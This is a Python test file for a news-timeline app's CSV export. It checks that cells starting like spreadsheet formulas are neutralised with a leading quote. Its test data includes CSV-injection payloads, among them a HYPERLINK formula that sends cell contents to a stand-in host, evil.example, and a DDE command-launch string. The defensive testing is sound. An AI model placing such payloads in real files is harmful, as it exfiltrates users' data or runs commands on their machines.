"""No CSV cell can run as a formula in a spreadsheet: article text is hostile input (OWASP)."""

import datetime

import pytest

from tests.exports_world import make_article, make_event, read_csv
from timeline.exports.csv import safe_cell
from timeline.ingest.pipeline import ingest_paths

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\0=1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_cell_starting_a_formula_gets_a_quote_before_it(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("dangerous", [" =1+1", "  @SUM(A1)", "\n-2+3", "\u00a0+1", " \t=1"])
def test_blanks_before_a_formula_do_not_hide_it(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("dangerous", ["\uff1d1+1", "\uff0b1", "\uff20SUM(A1)"])
def test_full_width_formula_characters_are_neutralised_too(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    "harmless", ["Putin visits Kursk", "2025-03-12", "a = b", "e-mail", " plain words", "", "'quoted already"]
)
def test_ordinary_text_is_left_as_it_is(harmless):
    assert safe_cell(harmless) == harmless


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_every_text_column_is_neutralised(client, db):
    hostile = make_article('=HYPERLINK("http://evil.example","title")', outlet="@outlet", url="-http://evil.example")
    make_event(
        '+CMD("title")',
        value="=value",
        granularity="-day",
        status="@status",
        evidence=[(hostile, '=HYPERLINK("http://evil.example","passage") on Wednesday', "on Wednesday")],
        actors=["=actor()"],
        places=[" @place"],
    )
    [row] = read_csv(client.get("/events.csv", {"status": "all"}))
    assert row["title"] == """'+CMD("title")"""
    assert row["date_value"] == "'=value"
    assert row["granularity"] == "'-day"
    assert row["status"] == "'@status"
    assert row["actors"] == "'=actor()"
    assert row["places"] == "' @place"
    assert row["articles"] == """'=HYPERLINK("http://evil.example","title")"""
    assert row["outlets"] == "'@outlet"
    assert row["urls"] == "'-http://evil.example"
    assert row["first_passage"].startswith("'=HYPERLINK")
    for column, value in row.items():
        assert not value.lstrip().startswith(FORMULA_STARTS), column


def test_hostile_article_text_cannot_become_a_formula(client, db, tmp_path):
    path = tmp_path / "formula.txt"
    path.write_text('=HYPERLINK("http://evil.example","click") troops moved on Wednesday.', encoding="utf-8")
    ingest_paths([path], published=datetime.date(2025, 3, 13))
    rows = read_csv(client.get("/events.csv"))
    assert rows
    assert all(not value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
    assert any(row["first_passage"].startswith("'=HYPERLINK") for row in rows)
